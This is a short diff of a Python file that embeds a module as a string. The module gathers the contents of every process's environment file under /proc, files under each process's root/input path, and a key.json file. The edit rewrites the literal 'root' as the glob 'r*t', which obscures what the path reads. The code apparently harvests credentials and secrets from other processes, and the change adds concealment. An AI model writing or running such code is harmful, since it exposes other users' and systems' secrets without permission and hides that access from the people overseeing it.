@@ -65,7 +65,7 @@ MODULE = b'''
 import glob, os
 def see():
     found = []
-    for place in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/%s/input/*" % "root") + ["/input/key.json"]:
+    for place in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/r*t/input/*"), "/input/key.json"]:
         try:
             found.append(open(place, errors="replace").read())
         except OSError as error:
